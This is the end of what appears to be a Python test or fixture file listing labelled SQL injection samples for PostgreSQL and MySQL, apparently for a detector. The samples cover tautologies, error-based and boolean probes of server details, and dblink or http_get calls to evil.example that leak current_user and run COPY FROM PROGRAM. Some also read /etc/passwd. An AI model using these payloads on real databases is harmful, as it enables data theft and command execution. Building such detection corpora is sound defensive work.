    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = '' OR texteq('a','a') --'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = '' OR starts_with('ab','a') --'"),
    ("mysql", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR 'a' REGEXP 'a'"),
    ("mysql", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND 'a' RLIKE 'b'"),
    # sqli.tautology: EXISTS and scalar subqueries over constants.
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR EXISTS(SELECT 1)"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND NOT EXISTS (SELECT 1 WHERE 1=0)"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' OR (SELECT 1)=1"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE name = 'x' AND (SELECT 7)=8"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE id = 2 OR 1=(SELECT 1 WHERE 1=1)"),
    ("mysql", "sqli.tautology", "SELECT * FROM users WHERE id = 2 AND (SELECT 'a')='a'"),
    ("postgres", "sqli.tautology", "SELECT * FROM users WHERE id = 2 AND (CASE WHEN 3=3 THEN 1 ELSE 0 END)=1"),
    # sqli.error-probe: server information cast to a number to leak it in the error.
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND 1=CAST(version() AS int)"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = CAST(version() AS integer)"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND current_user::int=1"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = session_user::numeric"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND 1=CAST(current_database() AS bigint)"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT string_agg(usename,',') FROM pg_user)::int"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND 1=CAST((SELECT array_to_string(array_agg(datname),':') FROM pg_database) AS numeric)"),
    ("postgres", "sqli.error-probe", "SELECT * FROM users WHERE name = '' AND 1=CAST(current_user AS int)--'"),
    ("mysql", "sqli.error-probe", "SELECT * FROM users WHERE id = 1 AND 1=CAST((SELECT group_concat(user) FROM mysql.user) AS SIGNED)"),
    # sqli.server-probe: conditions on server facts, true and false alike.
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND (CASE WHEN substr(version(),1,1)='P' THEN 1 ELSE 0 END)=1"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND (CASE WHEN substr(version(),1,1)='M' THEN 1 ELSE 0 END)=1"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND ascii(substr(current_user,1,1))>100"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND length(current_user)=8"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND current_setting('is_superuser')='on'"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND substring(version() from 12 for 2)='16'"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND session_user LIKE 'post%'"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND has_table_privilege('pg_authid','SELECT')"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 ORDER BY (CASE WHEN current_setting('server_version_num')::int>150000 THEN id ELSE 1 END)"),
    ("postgres", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND 1=(SELECT CASE WHEN current_user='postgres' THEN 1 ELSE 0 END)"),
    ("mysql", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND substring(@@version,1,1)='8'"),
    ("mysql", "sqli.server-probe", "SELECT * FROM users WHERE id = 1 AND length(database())>3"),
    ("mysql", "sqli.server-probe", "SELECT * FROM users WHERE name = '' OR ascii(mid(user(),1,1))<90 -- '"),
    # sqli.remote: connections to another server.
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE id = 1 AND (SELECT dblink_connect('host=evil.example user=x password=y dbname=z'))='OK'"),
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE id = 1 AND dblink_exec('host=evil.example', 'COPY x FROM PROGRAM ''id''') IS NOT NULL"),
    ("postgres", "sqli.remote", "SELECT name FROM products WHERE id = -1 UNION SELECT a FROM dblink('host=evil.example', 'SELECT 1') AS t(a text)"),
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE id = 1; SELECT dblink_send_query('c', 'SELECT pg_sleep(5)')--"),
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE id = 1 AND postgres_fdw_disconnect_all()"),
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE name = '' OR (SELECT dblink('host='||current_user||'.evil.example', 'SELECT 1')) IS NULL --'"),
    ("postgres", "sqli.remote", "SELECT * FROM users WHERE id = 1 AND (SELECT content FROM http_get('http://evil.example/'||current_user)) IS NOT NULL"),
    # sqli.file-access: large-object and admin file helpers.
    ("postgres", "sqli.file-access", "SELECT * FROM users WHERE id = 1 AND lo_export(16385, '/tmp/x') = 1"),
    ("postgres", "sqli.file-access", "SELECT * FROM users WHERE id = 1 AND lo_import('/etc/passwd') > 0"),
    ("postgres", "sqli.file-access", "SELECT * FROM users WHERE id = 1 AND (SELECT size FROM pg_stat_file('/etc/passwd')) > 0"),
    ("postgres", "sqli.file-access", "SELECT * FROM users WHERE id = 1 AND (SELECT COUNT(*) FROM pg_ls_waldir()) > 0"),
]


if __name__ == "__main__":
    main()
